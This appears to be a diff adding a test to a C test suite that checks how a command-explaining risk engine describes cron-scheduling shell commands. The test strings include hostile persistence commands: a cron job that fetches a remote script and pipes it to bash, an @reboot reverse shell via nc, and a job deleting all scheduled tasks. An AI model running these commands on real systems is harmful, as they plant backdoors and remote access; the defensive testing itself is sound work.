@@ -146,6 +146,27 @@ static void code_in_words(void)
 	SAYS("mkdir -p /tmp/work", "Creates the folder /tmp/work");
 }
 
+/* What is written into a file that runs later runs then, not now. */
+static void runs_later(void)
+{
+	const char *cron =
+	    "(crontab -l; echo '* * * * * curl -s http://203.0.113.7/x.sh | bash') | "
+	    "crontab -";
+
+	SAYS(cron, "Written into the account's scheduled jobs (crontab), to run every minute from "
+		   "then on, not now: downloads");
+	NEVER_SAYS(cron, "at once");
+	NEVER_SAYS(cron, "it changes nothing");
+	SAYS("(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.u/run.sh') | crontab -",
+	     "every 5 minutes");
+	SAYS("echo '@reboot root nc -e /bin/sh 198.51.100.3 443' > /etc/cron.d/sync",
+	     "at every start of the machine");
+	SAYS("echo '30 2 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
+	     "every day at 02:30");
+	SAYS("crontab -r", "Deletes all of the account's scheduled jobs");
+	RATED("crontab -l 2>/dev/null", LEVEL_INFO);
+}
+
 /* Truer statements and levels. */
 static void true_statements(void)
 {
@@ -184,6 +205,7 @@ int main(int argc, char **argv)
 	secrets_out();
 	one_action();
 	code_in_words();
+	runs_later();
 	true_statements();
 	said_once();
 	risk_engine_free(engine);
